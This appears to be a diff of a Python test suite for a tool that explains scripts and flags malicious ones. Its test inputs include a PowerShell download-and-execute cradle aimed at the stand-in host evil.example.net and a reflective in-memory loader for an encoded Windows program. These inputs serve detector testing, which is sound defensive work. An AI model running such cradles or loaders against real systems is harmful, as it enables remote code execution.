@@ -1,4 +1,4 @@
-"""Scripts and commands explained: parts, stages, behaviours and the verdict, in each language and against ill will."""
+"""Scripts and commands explained: parts, stages, behaviours and the verdict, in each language and hostile input."""
 
 # ruff: noqa: E501 - scripts under test stand as they would be written
 
@@ -12,15 +12,14 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from svc.assistant.findings import Finding as TypedFinding
-from svc.assistant.findings import Gap, Progress, with_facts
-from svc.assistant.findings import LooseFinding as Finding
+from svc.assistant.findings import Facts, Finding, Gap, Progress, with_facts
 from svc.assistant.skills.indicators.findings import IndicatorFacts
 from svc.assistant.skills.script.commands import parts_of
 from svc.assistant.skills.script.explain import words_for
+from svc.assistant.skills.script.findings import ScriptBehaviour, ScriptPart, ScriptStage, ScriptSummary
 from svc.assistant.skills.script.language import Language, language_of, script_in
-from svc.assistant.skills.script.stages import unfolded
-from svc.assistant.skills.script.tool import MAX_PARTS, explain
+from svc.assistant.skills.script.stages import evaluated
+from svc.assistant.skills.script.tool import MAX_PARTS, inspect
 
 CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example.net/a.ps1')"
 
@@ -35,20 +34,12 @@ def plain64(data: bytes) -> str:
     return base64.b64encode(data).decode()
 
 
-def explained(text: str, source: str = "prompt") -> list[Finding]:
-    return [item for item in explain(text, source=source) if isinstance(item, (Finding, TypedFinding))]
+def explained(text: str, source: str = "prompt") -> list[Finding[Facts]]:
+    return [item for item in inspect(text, source=source) if isinstance(item, Finding)]
 
 
-def of(findings: list[Finding], kind: str) -> list[Finding]:
-    return [finding for finding in findings if finding.kind == kind]
-
-
-def verdict(text: str) -> str:
-    return str(of(explained(text), "script")[0].attributes["verdict"])
-
-
-def stages(text: str) -> list[str]:
-    return [str(stage.attributes["text"]) for stage in of(explained(text), "script_stage")]
+def verdict(findings: list[Finding[Facts]]) -> str:
+    return with_facts(findings, ScriptSummary)[0].facts.verdict
 
 
 HIDDEN = {
@@ -77,11 +68,11 @@ HIDDEN = {
 
 
 @pytest.mark.parametrize("text", HIDDEN.values(), ids=HIDDEN)
-def test_what_is_hidden_is_read_and_called_bad(text: str):
+def test_hidden_code_is_decoded_and_judged(text: str):
     found = explained(f"explain this:\n{text}")
-    assert of(found, "script")[0].attributes["verdict"] in ("malicious", "suspicious")
+    assert verdict(found) in ("malicious", "suspicious")
     assert any("evil.example.net" in one.facts.value for one in with_facts(found, IndicatorFacts))
-    assert of(found, "script_stage")
+    assert with_facts(found, ScriptStage)
 
 
 BAD = {
@@ -98,8 +89,8 @@ BAD = {
 
 
 @pytest.mark.parametrize(("text", "expected"), BAD.values(), ids=BAD)
-def test_what_attackers_do_is_called_so(text: str, expected: str):
-    assert verdict(text) == expected
+def test_attacks_are_judged_malicious_or_suspicious(text: str, expected: str):
+    assert verdict(explained(text)) == expected
 
 
 ORDINARY = {
@@ -115,7 +106,7 @@ ORDINARY = {
 
 @pytest.mark.parametrize("text", ORDINARY.values(), ids=ORDINARY)
 def test_ordinary_work_is_called_ordinary(text: str):
-    assert verdict(text) == "ordinary"
+    assert verdict(explained(text)) == "ordinary"
 
 
 @pytest.mark.parametrize(
@@ -130,7 +121,7 @@ def test_ordinary_work_is_called_ordinary(text: str):
         ("run.sh", "echo hello", Language.SHELL),
     ],
 )
-def test_the_language_is_known_by_words_and_by_name(name: str, text: str, language: Language):
+def test_the_language_is_detected_by_content_and_file_name(name: str, text: str, language: Language):
     assert language_of(text, name=name) is language
 
 
@@ -159,12 +150,12 @@ def test_the_script_is_found_in_the_prompt(prompt: str, script: str, line: int):
     assert script_in(prompt) == (script, line)
 
 
-def test_each_command_is_said_in_words():
+def test_each_command_is_described():
     [part] = parts_of("powershell -nop -w hidden -ep bypass -File %TEMP%\\a.ps1", Language.BATCH)
-    said = words_for(part)
-    assert "without the user's profile" in said
-    assert "its window hidden" in said
-    assert "%temp% is the user's temporary folder" in said
+    described = words_for(part)
+    assert "without the user's profile" in described
+    assert "its window hidden" in described
+    assert "%temp% is the user's temporary folder" in described
 
 
 def test_commands_come_in_order_with_their_lines():
@@ -185,13 +176,13 @@ def test_commands_come_in_order_with_their_lines():
         (Language.VBA, 'a = Replace("wZoZrd", "Z", "")', 'a = "word"'),
     ],
 )
-def test_words_are_put_together_as_the_language_would(language: Language, text: str, plain: str):
-    assert unfolded(text, language).text == plain
+def test_strings_are_evaluated_as_the_language_would(language: Language, text: str, plain: str):
+    assert evaluated(text, language).text == plain
 
 
 def test_evidence_names_the_line_of_the_input_and_of_the_stage():
     found = explained(f"explain this script:\necho start\npowershell -enc {wide(CRADLE)}")
-    lines = {one.title: (one.evidence[0].source, one.evidence[0].line) for one in of(found, "script_behaviour")}
+    lines = {one.title: (one.evidence[0].source, one.evidence[0].line) for one in with_facts(found, ScriptBehaviour)}
     assert lines["starts PowerShell with an encoded command"] == ("prompt", 3)
     assert lines["downloads code and runs it from memory"][0].startswith("prompt, stage")
 
@@ -202,16 +193,16 @@ def test_a_program_inside_a_script_is_found():
         + plain64(b"MZ" + bytes(58) + b"\x40\0\0\0" + b"PE\0\0" + bytes(400))
         + "';[Reflection.Assembly]::Load([Convert]::FromBase64String($b))"
     )
-    assert of(found, "script")[0].attributes["verdict"] == "malicious"
-    assert any("program" in str(stage.attributes["form"]) for stage in of(found, "script_stage"))
+    assert verdict(found) == "malicious"
+    assert any("program" in stage.facts.form for stage in with_facts(found, ScriptStage))
 
 
 @pytest.mark.parametrize("text", ["", "hello there", "what is the weather?", "\x00\x01"])
 def test_no_script_is_a_gap(text: str):
-    items = list(explain(text, source="prompt"))
+    items = list(inspect(text, source="prompt"))
     assert isinstance(items[0], Progress)
     assert any(isinstance(item, Gap) for item in items)
-    assert not of([item for item in items if isinstance(item, (Finding, TypedFinding))], "script")
+    assert not [item for item in items if isinstance(item, Finding)]
 
 
 @pytest.mark.parametrize(
@@ -230,11 +221,11 @@ def test_no_script_is_a_gap(text: str):
     ],
     ids=["parentheses", "many commands", "many strings", "cmd growth", "shell growth", "PowerShell growth", "long Base64", "nesting", "marks", "long line"],
 )  # fmt: skip
-def test_hostile_scripts_are_bounded(text: str):
+def test_hostile_scripts_are_limited(text: str):
     started = time.process_time()
     found = explained(text)
     assert time.process_time() - started < 15
-    assert len(of(found, "script_part")) <= MAX_PARTS
+    assert len(with_facts(found, ScriptPart)) <= MAX_PARTS
 
 
 @settings(max_examples=40, deadline=None)
